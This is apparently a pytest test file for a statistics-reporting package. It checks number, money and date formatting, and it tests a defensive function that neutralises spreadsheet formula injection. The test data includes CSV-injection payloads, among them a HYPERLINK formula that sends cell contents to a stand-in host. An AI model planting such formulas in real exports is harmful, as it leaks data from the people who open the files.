"""formatting.format_value and dates.format_date: every value and date is written one way."""

from __future__ import annotations

from datetime import datetime

import numpy as np
import pandas as pd
import pytest

from csc_metrics.catalogue import indicator_table, unit_table
from csc_metrics.dates import collection_year, format_date, parse_period_end, period_label
from csc_metrics.errors import ParameterError
from csc_metrics.formatting import (
    ColumnFormat,
    format_cell,
    format_count,
    format_money,
    format_value,
    in_words,
    neutralise_formulas,
)


def test_every_indicator_unit_is_declared():
    assert set(indicator_table()["unit"]) <= set(unit_table()["unit"])


@pytest.mark.parametrize(
    ("value", "unit", "options", "text"),
    [
        # Figures: the unit's decimals (1 for pct, rate, ratio; 0 for counts) and its symbol.
        (48.25, "pct", {}, "48.2%"),
        (65.34, "rate", {}, "65.3"),
        (17.25, "ratio", {}, "17.2"),
        (1234.0, "count", {}, "1,234"),
        # Sentences: whole percentages as DfE publishes them, and the unit's words.
        (48.2, "pct", {"precision": "text", "words": True}, "48%"),
        (65.34, "rate", {"precision": "text", "words": True}, "65.3 per 10,000 children"),
        (17.24, "ratio", {"precision": "text", "words": True}, "17.2 cases per FTE"),
        (1234.0, "count", {"precision": "text", "words": True}, "1,234"),
        # DfE's published values as they were published; counts whole.
        (7.0, "pct", {"precision": "published"}, "7%"),
        (55.25, "pct", {"precision": "published"}, "55.25%"),
        (1234.0, "count", {"precision": "published"}, "1,234"),
        # A chart tick asks for its own decimals.
        (20.0, "pct", {"decimals": 0}, "20%"),
        # A gap: signed, without the symbol when a heading names the unit; a value that
        # rounds to zero has no sign.
        (2.04, "pct", {"signed": True, "symbol": False}, "+2.0"),
        (-8.84, "pct", {"signed": True}, "-8.8%"),
        (-0.04, "pct", {"signed": True}, "0.0%"),
        (10.6, "rate", {"precision": "text", "signed": True}, "+10.6"),
        # Blank values.
        (np.nan, "pct", {}, ""),
        (None, "rate", {"blank": "-"}, "-"),
    ],
)
def test_format_value(value, unit, options, text):
    assert format_value(value, unit, **options) == text


def test_column_format_writes_each_row_in_its_own_unit():
    # A table mixing a rate and a percentage: DfE published 67 per 10,000 and 64%; written as
    # published ("64", not "64.0"); ours at the figure decimals (one), with the symbol.
    published = ColumnFormat(("rate", "pct"), "published", symbol=True)
    assert published.write([67.0, 64.0]) == ["67", "64%"]
    assert ColumnFormat(("rate", "pct"), symbol=True).write([77.64, 64.35]) == ["77.6", "64.3%"]
    assert ColumnFormat("pct", signed=True).write([0.44, np.nan]) == ["+0.4", ""]


def test_column_format_needs_a_unit_per_row():
    with pytest.raises(ValueError, match="2 units for a column of 3 values"):
        ColumnFormat(("pct", "pct")).write([1.0, 2.0, 3.0])


def test_in_words_is_the_sentence_style():
    assert in_words(48.6, "pct") == "49%"
    assert in_words(17.24, "ratio") == "17.2 cases per FTE"


def test_table_cells():
    assert format_count(2.5) == "2.5"  # FTE keeps one decimal
    assert format_count(12.0) == "12"
    assert format_cell(pd.Timestamp("2024-06-30")) == "30 Jun 2024"
    assert format_cell(True) == "Yes"
    assert format_cell(None) == ""


@pytest.mark.parametrize(
    ("style", "text"),
    [
        ("long", "5 June 2024"),
        ("short", "5 Jun 2024"),
        ("month", "Jun 2024"),
        ("iso", "2024-06-05"),
        ("time", "5 June 2024 at 14:03"),
    ],
)
def test_format_date(style, text):
    assert format_date(datetime(2024, 6, 5, 14, 3), style) == text


def test_period_label_says_quarter_only_at_a_quarter_end():
    assert period_label(pd.Timestamp("2025-03-31")) == "quarter ending 31 March 2025"
    assert period_label(pd.Timestamp("2025-02-28")) == "period ending 28 February 2025"


def test_collection_year_ends_on_31_march():
    assert collection_year(pd.Timestamp("2024-03-31")) == 2024
    assert collection_year(pd.Timestamp("2024-04-01")) == 2025


def test_parse_period_end():
    assert parse_period_end(" 2025-03-31 ") == pd.Timestamp("2025-03-31")
    assert parse_period_end("Latest", latest=True) == "latest"
    with pytest.raises(ParameterError, match="--period-end '31/03/2025' is not a date"):
        parse_period_end("31/03/2025", "--period-end", latest=True)
    with pytest.raises(ParameterError, match="period_end='latest' is not a date"):
        parse_period_end("latest")


@pytest.mark.parametrize(
    ("value", "short", "text"),
    [
        (1_234_567, True, "£1.2m"),
        (85_400, True, "£85k"),
        (9_999, True, "£9,999"),
        (-2_500_000, True, "-£2.5m"),
        (1_234_567.4, False, "£1,234,567"),
        (None, True, ""),
    ],
)
def test_format_money(value, short, text):
    assert format_money(value, short=short) == text


# --- neutralise_formulas (OWASP CSV injection) ---------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", '=HYPERLINK("http://x?d="&A2,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    safe = neutralise_formulas(pd.DataFrame({"PLACE_PROVIDER": [text]}))
    assert safe["PLACE_PROVIDER"].tolist() == ["'" + text]


@pytest.mark.parametrize("text", ["-12", "-0.5", "+3", "-1,234.0", "plain", "a=b", ""])
def test_numbers_as_text_and_ordinary_text_are_left_alone(text):
    assert neutralise_formulas(pd.DataFrame({"value": [text]}))["value"].tolist() == [text]


def test_number_columns_stay_numbers_and_blanks_stay_blank():
    frame = pd.DataFrame({"n": [-3, 4], "x": [-0.5, None], "t": [None, "=1"]})
    safe = neutralise_formulas(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].iloc[0] == -0.5 and pd.isna(safe["x"].iloc[1])
    assert pd.isna(safe["t"].iloc[0]) and safe["t"].iloc[1] == "'=1"
    assert frame["t"].iloc[1] == "=1"  # the frame given is not changed


def test_a_heading_that_is_a_formula_is_neutralised_too():
    assert list(neutralise_formulas(pd.DataFrame({"=cmd": [1]})).columns) == ["'=cmd"]
